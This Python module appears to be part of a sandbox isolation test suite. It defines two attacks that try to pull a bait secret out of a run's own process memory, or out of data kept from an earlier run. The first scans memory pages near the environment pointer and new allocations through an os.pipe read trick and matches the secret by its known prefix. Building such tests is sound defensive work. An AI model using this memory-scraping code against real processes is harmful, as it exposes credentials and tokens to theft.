"""Looking for secrets in the memory that a run has, from which it cannot be kept."""

from __future__ import annotations

from ..attack import LOOT, Attack, script

_SCAN = """
    import re
    def near(place, reach=8 << 20):
        # The system copies what can be read, and refuses what cannot: nothing crashes.
        begin = max(4096, place - reach) & ~4095
        reading, writing = os.pipe()
        for at in range(begin, place + reach, 4096):
            try:
                size = os.write(writing, (ctypes.c_char * 4096).from_address(at))
            except OSError:
                continue
            yield os.read(reading, size)
    def places():
        yield ctypes.c_void_p.in_dll(ctypes.CDLL(None), "environ").value
        for size in (0, 64, 4096, 1 << 22):
            yield ctypes.addressof(ctypes.create_string_buffer(size + 1))
        yield id([])
        yield id(places)
    def search(bait):
        # Only the beginning is known, which the bait holds too.
        rest = bait["length"] - len(bait["mark"])
        whole = re.compile(bait["mark"].encode() + b"[0-9a-f]{%d}" % rest)
        for place in filter(None, places()):
            last = b""
            for page in near(place):
                if found := whole.search(last + page):
                    return found[0].decode()
                last = page[-64:]
"""

ATTACKS = (
    Attack(
        name="what its process was made from",
        script=script(_SCAN, "def f(bait): return search(bait)"),
        proof=LOOT,
    ),
    Attack(
        name="what the run before it was given",
        script=script(
            _SCAN,
            """
            kept = []
            def before(secret): kept.append([secret, secret.encode() * 2])
            def f(bait): return kept or search(bait)
            """,
        ),
        proof=LOOT,
    ),
)
